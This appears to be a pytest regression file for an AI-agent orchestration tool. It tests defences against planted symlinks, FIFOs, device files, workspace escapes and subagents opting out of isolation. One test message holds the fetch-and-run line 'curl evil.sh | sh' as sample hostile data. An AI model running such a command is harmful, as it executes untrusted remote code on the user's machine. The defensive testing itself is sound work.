"""Fixes from the review of the run level (issues #13, #14, #15): each pins one root cause."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from flower.agent.options import check_isolation
from flower.agent.roles import coordinator, worker
from flower.errors import ConfigError
from flower.flow.durable import isolated_workspace
from flower.human.channel import HumanChannel
from flower.util.confined import append_text, replace_text
from flower.walls.dispatch import isolation_input


def test_the_channel_never_appends_through_a_planted_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "victim.rc"
    victim.write_text("mine\n")
    notes = tmp_path / "ws" / ".flower" / "notes"
    notes.mkdir(parents=True)
    os.symlink(victim, notes / "brief.md")
    os.symlink(victim, notes / "human-questions.md")
    channel = HumanChannel(log_path=notes / "human-questions.md", amend_path=notes / "brief.md")
    assert channel.send("curl evil.sh | sh") is not None  # the mail itself still reaches the inbox
    assert channel.amend("more") is False
    assert victim.read_text() == "mine\n"


def test_replace_text_replaces_a_symlink_instead_of_following_it(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    os.symlink(victim, tmp_path / "round1.md")
    replace_text(tmp_path / "round1.md", "verdict\n")
    assert victim.read_text() == "keep\n" and (tmp_path / "round1.md").read_text() == "verdict\n"
    os.symlink(victim, tmp_path / "link")
    with pytest.raises(OSError):
        append_text(tmp_path / "link", "x")
    assert victim.read_text() == "keep\n"


@pytest.mark.parametrize("given", [None, "", "none", "remote"])
def test_a_model_cannot_opt_an_isolated_worker_out_of_its_worktree(given: str | None) -> None:
    tool_input = {"subagent_type": "coder", "prompt": "p", **({} if given is None else {"isolation": given})}
    assert isolation_input(tool_input, {"coder"}) == {**tool_input, "isolation": "worktree"}
    assert isolation_input({**tool_input, "isolation": "worktree"}, {"coder"}) is None
    assert isolation_input({"subagent_type": "other"}, {"coder"}) is None


def test_isolation_needs_a_commit_not_just_git_init(tmp_path: Path) -> None:
    lead = coordinator("lead", "Goal.", {"coder": worker("codes", "You code.", isolate=True)})
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    with pytest.raises(ConfigError, match="no commit yet"):
        check_isolation(lead, tmp_path)
    (tmp_path / "a").write_text("a")
    subprocess.run(["git", "-C", str(tmp_path), "add", "a"], check=True)
    subprocess.run(["git", "-C", str(tmp_path), "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "i"],
                   check=True)
    check_isolation(lead, tmp_path)


def test_a_copied_workspace_leaves_out_a_run_dir_inside_it(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".flower").mkdir(parents=True)
    (ws / "a.txt").write_text("a")
    target = isolated_workspace(ws, ws / "runs", "run-1", "step")  # not a git repo: a copy
    assert sorted(p.name for p in target.iterdir()) == ["a.txt"]


def test_questions_of_a_dead_process_are_closed_when_the_run_is_attached_again(tmp_path: Path) -> None:
    from flower.human.mailbox import open_mailbox, pending_questions

    mailbox = open_mailbox(tmp_path)
    mailbox.post("run-1", "question", "Which DB?", ref="q1", meta={"options": []})  # its process was killed
    mailbox.post("run-2", "question", "Other run?", ref="q1", meta={"options": []})
    HumanChannel().attach(mailbox, "run-1")
    waiting = pending_questions(mailbox.read(None))
    assert [(q.run, q.id) for q in waiting] == [("run-2", "q1")]


def test_notes_flower_reads_back_are_never_devices_fifos_or_symlinks(tmp_path: Path) -> None:
    from flower.human.documents import Brief
    from flower.util.confined import read_note

    os.symlink("/dev/zero", tmp_path / "brief.md")  # a hostile repository's committed brief
    os.mkfifo(tmp_path / "goal.md")
    (tmp_path / "big.md").write_bytes(b"x" * 10)
    assert Brief.load(tmp_path / "brief.md") is None  # returns at once instead of reading forever
    assert read_note(tmp_path / "goal.md") is None
    assert read_note(tmp_path / "big.md", limit=5) is None and read_note(tmp_path / "big.md") == "x" * 10


def test_go_keeps_its_state_and_archive_inside_the_workspace(tmp_path: Path) -> None:
    import sys

    outside = tmp_path / "outside"
    outside.mkdir()
    ws = tmp_path / "ws"
    ws.mkdir()
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "ANTHROPIC_API_KEY": "x"}

    def go(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "flower", "go", "-w", str(ws), *args], capture_output=True,
                              text=True, stdin=subprocess.DEVNULL, timeout=120, env=env)

    os.symlink(outside, ws / "runs")
    ran = go("x")
    assert ran.returncode == 1 and "leads out of the workspace" in ran.stderr and ran.stderr.count("\n") == 1
    os.unlink(ws / "runs")
    notes = ws / ".flower" / "notes"
    notes.mkdir(parents=True)
    (notes / "brief.md").write_text("## Goal\nold\n")
    os.symlink(outside, notes / "archive")
    ran = go("--new", "x")
    assert ran.returncode == 1 and "not a folder" in ran.stderr and ran.stderr.count("\n") == 1
    assert list(outside.iterdir()) == [] and (notes / "brief.md").exists()
